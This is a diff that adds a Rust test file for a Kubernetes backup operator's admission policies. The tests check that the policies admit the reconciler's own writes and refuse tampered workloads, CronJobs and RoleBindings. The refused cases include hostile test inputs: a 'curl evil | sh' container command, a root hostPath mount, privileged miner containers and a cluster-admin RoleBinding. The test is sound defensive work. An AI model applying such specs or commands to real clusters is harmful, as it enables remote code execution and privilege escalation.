@@ -1,0 +1,453 @@
+//! The install's ValidatingAdmissionPolicies, evaluated on their own CEL (the
+//! `cel` crate; the policies use standard CEL only) over a table of requests
+//! they must admit or refuse: the reconciler's real sidecar injection and
+//! removal (from `stash::sidecar::plan`) and the CronJob, ServiceAccount and
+//! RoleBindings `reconcile::desired` builds pass; anything else the server's
+//! identity might be made to write does not; other users are never matched.
+
+use std::sync::Arc;
+
+use k8s_openapi::api::admissionregistration::v1::ValidatingAdmissionPolicy;
+use serde_json::{Map, Value, json};
+use stash::admission::Settings;
+use stash::api::{BackupConfiguration, Repository};
+use stash::manifests::{Object, Options, objects};
+use stash::reconcile::desired;
+use stash::sidecar::plan;
+use stash::store::Snapshot;
+
+const SERVER: &str = "system:serviceaccount:stash-system:stash-webhook";
+
+fn policy(name: &str) -> ValidatingAdmissionPolicy {
+    objects(&Options::default())
+        .expect("render")
+        .into_iter()
+        .find_map(|o| match o {
+            Object::ValidatingAdmissionPolicy(p) if p.metadata.name.as_deref() == Some(name) => {
+                Some(p)
+            }
+            _ => None,
+        })
+        .unwrap_or_else(|| panic!("ValidatingAdmissionPolicy {name}"))
+}
+
+fn eval(env: &Arc<cel::Env>, expression: &str, vars: &Map<String, Value>) -> cel::Value {
+    let program = env
+        .compile(expression)
+        .unwrap_or_else(|e| panic!("{expression}: {e:?}"));
+    let mut ctx = cel::Context::with_env(env.clone());
+    for (k, v) in vars {
+        ctx.add_variable(k.clone(), v.clone()).expect("variable");
+    }
+    program
+        .execute(&ctx)
+        .unwrap_or_else(|e| panic!("{expression}: {e:?}"))
+}
+
+/// What the API server would answer: `None` when the policy does not match
+/// the request, otherwise the messages of the failed validations.
+fn admit(
+    p: &ValidatingAdmissionPolicy,
+    user: &str,
+    resource: &str,
+    operation: &str,
+    object: &Value,
+    old: Option<&Value>,
+) -> Option<Vec<String>> {
+    let spec = p.spec.as_ref().expect("spec");
+    let rules = spec
+        .match_constraints
+        .as_ref()
+        .and_then(|m| m.resource_rules.as_ref())
+        .expect("resourceRules");
+    let matched = rules.iter().any(|r| {
+        r.resources.iter().flatten().any(|x| x == resource)
+            && r.operations.iter().flatten().any(|x| x == operation)
+    });
+    if !matched {
+        return None;
+    }
+    let env = Arc::new(cel::Env::stdlib());
+    let mut vars = Map::new();
+    vars.insert(
+        "request".into(),
+        json!({"userInfo": {"username": user}, "resource": {"resource": resource}, "operation": operation}),
+    );
+    vars.insert("object".into(), object.clone());
+    vars.insert("oldObject".into(), old.cloned().unwrap_or(Value::Null));
+    for c in spec.match_conditions.iter().flatten() {
+        if eval(&env, &c.expression, &vars) != cel::Value::Bool(true) {
+            return None;
+        }
+    }
+    let mut variables = Map::new();
+    for v in spec.variables.iter().flatten() {
+        vars.insert("variables".into(), Value::Object(variables.clone()));
+        let value = eval(&env, &v.expression, &vars).json().expect("json");
+        variables.insert(v.name.clone(), value);
+    }
+    vars.insert("variables".into(), Value::Object(variables));
+    Some(
+        spec.validations
+            .iter()
+            .flatten()
+            .filter(|v| eval(&env, &v.expression, &vars) != cel::Value::Bool(true))
+            .map(|v| v.message.clone().unwrap_or_default())
+            .collect(),
+    )
+}
+
+fn deployment() -> Value {
+    json!({
+        "apiVersion": "apps/v1", "kind": "Deployment",
+        "metadata": {"name": "app", "namespace": "demo", "resourceVersion": "7", "generation": 3,
+                     "labels": {"app": "app"}, "annotations": {"owner": "team"}},
+        "spec": {
+            "replicas": 2,
+            "selector": {"matchLabels": {"app": "app"}},
+            "template": {
+                "metadata": {"labels": {"app": "app"}},
+                "spec": {
+                    "containers": [{"name": "app", "image": "nginx:1",
+                                    "volumeMounts": [{"name": "data", "mountPath": "/source/data"}]}],
+                    "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "data"}}]
+                }
+            }
+        },
+        "status": {"replicas": 2}
+    })
+}
+
+fn config() -> BackupConfiguration {
+    serde_json::from_value(json!({
+        "apiVersion": "stash.appscode.com/v1beta1", "kind": "BackupConfiguration",
+        "metadata": {"name": "bc", "namespace": "demo", "uid": "u-1"},
+        "spec": {
+            "repository": {"name": "repo"},
+            "schedule": "*/5 * * * *",
+            "target": {"ref": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "app"},
+                       "volumeMounts": [{"name": "data", "mountPath": "/source/data"}],
+                       "paths": ["/source/data"]},
+            "retentionPolicy": {"name": "keep", "keepLast": 5, "prune": true}
+        }
+    }))
+    .expect("BackupConfiguration")
+}
+
+fn snapshot(with_config: bool) -> Snapshot {
+    let mut snap = Snapshot::default();
+    if with_config {
+        snap.upsert_config(config());
+    }
+    let repo: Repository = serde_json::from_value(json!({
+        "apiVersion": "stash.appscode.com/v1alpha1", "kind": "Repository",
+        "metadata": {"name": "repo", "namespace": "demo"},
+        "spec": {"backend": {"gcs": {"bucket": "b", "prefix": "/p"}, "storageSecretName": "gcs-secret"}}
+    }))
+    .expect("Repository");
+    snap.upsert_repository(repo);
+    snap
+}
+
+/// The workload after the reconciler's plan for it.
+fn planned(workload: &Value, with_config: bool) -> Value {
+    let p = plan(workload, &snapshot(with_config), &Settings::default());
+    assert!(!p.ops.is_empty(), "the plan changes the workload");
+    let mut out = workload.clone();
+    json_patch::patch(&mut out, &p.ops).expect("the plan applies");
+    // What the API server changes on any write.
+    out["metadata"]["resourceVersion"] = json!("8");
+    out["metadata"]["generation"] = json!(4);
+    out
+}
+
+fn workloads(user: &str, new: &Value, old: &Value) -> Option<Vec<String>> {
+    admit(
+        &policy("stash-webhook-workloads"),
+        user,
+        "deployments",
+        "UPDATE",
+        new,
+        Some(old),
+    )
+}
+
+fn accepted(answer: Option<Vec<String>>) {
+    assert_eq!(answer, Some(vec![]), "must be matched and admitted");
+}
+
+fn refused(answer: Option<Vec<String>>, why: &str) {
+    let messages = answer.expect("must be matched");
+    assert!(
+        messages.iter().any(|m| m.contains(why)),
+        "refused because {why:?}, got {messages:?}"
+    );
+}
+
+#[test]
+fn the_reconcilers_injection_and_removal_are_admitted() {
+    let old = deployment();
+    let injected = planned(&old, true);
+    assert!(stash::sidecar::has_sidecar(&injected["spec"]["template"]));
+    accepted(workloads(SERVER, &injected, &old));
+    // The user scales it meanwhile; then the configuration goes: removal.
+    let mut scaled = injected.clone();
+    scaled["spec"]["replicas"] = json!(3);
+    let removed = planned(&scaled, false);
+    assert!(!stash::sidecar::has_sidecar(&removed["spec"]["template"]));
+    accepted(workloads(SERVER, &removed, &scaled));
+}
+
+#[test]
+fn anything_else_on_a_workload_is_refused() {
+    let old = deployment();
+    let injected = planned(&old, true);
+    let cases: Vec<(&str, Box<dyn Fn(&mut Value)>, &str)> = vec![
+        (
+            "a user container's image",
+            Box::new(|w| w["spec"]["template"]["spec"]["containers"][0]["image"] = json!("evil:1")),
+            "only the container named stash",
+        ),
+        (
+            "a new privileged container",
+            Box::new(|w| {
+                w["spec"]["template"]["spec"]["containers"]
+                    .as_array_mut()
+                    .unwrap()
+                    .push(json!({"name": "miner", "image": "evil:1", "securityContext": {"privileged": true}}))
+            }),
+            "only the container named stash",
+        ),
+        (
+            "a privileged stash container",
+            Box::new(|w| {
+                for c in w["spec"]["template"]["spec"]["containers"]
+                    .as_array_mut()
+                    .unwrap()
+                {
+                    if c["name"] == "stash" {
+                        c["securityContext"] = json!({"privileged": true});
+                    }
+                }
+            }),
+            "unprivileged",
+        ),
+        (
+            "a stash container with another image",
+            Box::new(|w| {
+                for c in w["spec"]["template"]["spec"]["containers"]
+                    .as_array_mut()
+                    .unwrap()
+                {
+                    if c["name"] == "stash" {
+                        c["image"] = json!("evil:1");
+                    }
+                }
+            }),
+            "stash image",
+        ),
+        (
+            "a stash init container running a shell",
+            Box::new(|w| {
+                w["spec"]["template"]["spec"]["initContainers"] = json!([{
+                    "name": "stash-init", "image": stash::admission::DEFAULT_IMAGE, "command": ["sh", "-c", "id"]}])
+            }),
+            "entrypoint",
+        ),
+        (
+            "a hostPath stash volume",
+            Box::new(|w| {
+                w["spec"]["template"]["spec"]["volumes"]
+                    .as_array_mut()
+                    .unwrap()
+                    .push(json!({"name": "stash-root", "hostPath": {"path": "/"}}))
+            }),
+            "hostPath",
+        ),
+        (
+            "a user volume",
+            Box::new(|w| {
+                w["spec"]["template"]["spec"]["volumes"][0] =
+                    json!({"name": "data", "hostPath": {"path": "/"}})
+            }),
+            "stash-* and tmp-dir volumes",
+        ),
+        (
+            "the service account",
+            Box::new(|w| w["spec"]["template"]["spec"]["serviceAccountName"] = json!("admin")),
+            "only containers, init containers and volumes",
+        ),
+        (
+            "host networking",
+            Box::new(|w| w["spec"]["template"]["spec"]["hostNetwork"] = json!(true)),
+            "only containers, init containers and volumes",
+        ),
+        (
+            "the replicas",
+            Box::new(|w| w["spec"]["replicas"] = json!(0)),
+            "only the pod template",
+        ),
+        (
+            "a user annotation",
+            Box::new(|w| w["metadata"]["annotations"]["owner"] = json!("mallory")),
+            "only the stash.appscode.com/ annotations of a workload",
+        ),
+        (
+            "a label",
+            Box::new(|w| w["metadata"]["labels"]["app"] = json!("other")),
+            "no metadata",
+        ),
+        (
+            "a pod template label",
+            Box::new(|w| w["spec"]["template"]["metadata"]["labels"]["extra"] = json!("1")),
+            "annotations of a pod template",
+        ),
+    ];
+    for (what, change, why) in cases {
+        let mut new = injected.clone();
+        change(&mut new);
+        let answer = workloads(SERVER, &new, &old);
+        assert!(
+            answer
+                .as_ref()
+                .is_some_and(|m| m.iter().any(|m| m.contains(why))),
+            "{what}: expected a refusal mentioning {why:?}, got {answer:?}"
+        );
+        // Anyone else: the policy does not even match.
+        assert_eq!(
+            workloads("system:serviceaccount:demo:deployer", &new, &old),
+            None,
+            "{what}"
+        );
+        assert_eq!(workloads("kubernetes-admin", &new, &old), None, "{what}");
+    }
+    // Stash annotations alone are stash's.
+    let mut annotated = old.clone();
+    annotated["metadata"]["annotations"]["stash.appscode.com/x"] = json!("1");
+    accepted(workloads(SERVER, &annotated, &old));
+}
+
+fn owned(resource: &str, object: &Value) -> Option<Vec<String>> {
+    admit(
+        &policy("stash-webhook-owned"),
+        SERVER,
+        resource,
+        "CREATE",
+        object,
+        None,
+    )
+}
+
+#[test]
+fn the_reconcilers_own_objects_are_admitted() {
+    let bc = config();
+    let image = stash::admission::DEFAULT_IMAGE;
+    let mut cj = serde_json::to_value(desired::cronjob(&bc, image).expect("CronJob")).unwrap();
+    // API server defaults.
+    let pod = &mut cj["spec"]["jobTemplate"]["spec"]["template"]["spec"];
+    pod["dnsPolicy"] = json!("ClusterFirst");
+    pod["schedulerName"] = json!("default-scheduler");
+    pod["securityContext"] = json!({});
+    pod["terminationGracePeriodSeconds"] = json!(30);
+    accepted(owned("cronjobs", &cj));
+    accepted(admit(
+        &policy("stash-webhook-owned"),
+        SERVER,
+        "cronjobs",
+        "UPDATE",
+        &cj,
+        Some(&cj),
+    ));
+    let sa = serde_json::to_value(desired::cron_service_account(&bc)).unwrap();
+    accepted(owned("serviceaccounts", &sa));
+    let rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
+    accepted(owned("rolebindings", &rb));
+    let rb = serde_json::to_value(desired::sidecar_role_binding(
+        &bc,
+        "Deployment",
+        "app",
+        "default",
+    ))
+    .unwrap();
+    accepted(owned("rolebindings", &rb));
+}
+
+#[test]
+fn other_cron_jobs_service_accounts_and_role_bindings_are_refused() {
+    let bc = config();
+    let image = stash::admission::DEFAULT_IMAGE;
+    let cj = serde_json::to_value(desired::cronjob(&bc, image).expect("CronJob")).unwrap();
+    let pod = "/spec/jobTemplate/spec/template/spec";
+    let container = format!("{pod}/containers/0");
+    let edit = |path: &str, value: Value| {
+        let mut o = cj.clone();
+        *o.pointer_mut(path).unwrap_or_else(|| panic!("{path}")) = value;
+        o
+    };
+    let mut hostpath = cj.clone();
+    hostpath.pointer_mut(pod).unwrap()["volumes"] =
+        json!([{"name": "root", "hostPath": {"path": "/"}}]);
+    let mut host_network = cj.clone();
+    host_network.pointer_mut(pod).unwrap()["hostNetwork"] = json!(true);
+    let mut privileged = cj.clone();
+    privileged.pointer_mut(&container).unwrap()["securityContext"] = json!({"privileged": true});
+    let mut command = cj.clone();
+    command.pointer_mut(&container).unwrap()["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    let cases = [
+        (
+            "another image",
+            edit(&format!("{container}/image"), json!("evil:1")),
+        ),
+        ("another command", command),
+        (
+            "other args",
+            edit(&format!("{container}/args"), json!(["serve"])),
+        ),
+        ("another name", edit("/metadata/name", json!("miner"))),
+        (
+            "another service account",
+            edit(&format!("{pod}/serviceAccountName"), json!("default")),
+        ),
+        ("a hostPath volume", hostpath),
+        ("host networking", host_network),
+        ("a privileged container", privileged),
+    ];
+    for (what, object) in cases {
+        let answer = owned("cronjobs", &object);
+        assert!(
+            answer
+                .as_ref()
+                .is_some_and(|m| m.iter().any(|m| m.contains("stash creates only CronJobs"))),
+            "{what}: {answer:?}"
+        );
+    }
+
+    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
+    rb["roleRef"]["name"] = json!("cluster-admin");
+    refused(owned("rolebindings", &rb), "RoleBindings");
+    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
+    rb["subjects"] = json!([{"kind": "User", "name": "mallory"}]);
+    refused(owned("rolebindings", &rb), "RoleBindings");
+    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
+    rb["subjects"][0]["namespace"] = json!("kube-system");
+    refused(owned("rolebindings", &rb), "RoleBindings");
+
+    let mut sa = serde_json::to_value(desired::cron_service_account(&bc)).unwrap();
+    sa["metadata"]["name"] = json!("default");
+    refused(owned("serviceaccounts", &sa), "ServiceAccounts");
+
+    // Another user's CronJob or RoleBinding is not the policy's business.
+    let mut rb = serde_json::to_value(desired::cron_role_binding(&bc)).unwrap();
+    rb["roleRef"]["name"] = json!("cluster-admin");
+    assert_eq!(
+        admit(
+            &policy("stash-webhook-owned"),
+            "kubernetes-admin",
+            "rolebindings",
+            "CREATE",
+            &rb,
+            None
+        ),
+        None
+    );
+}
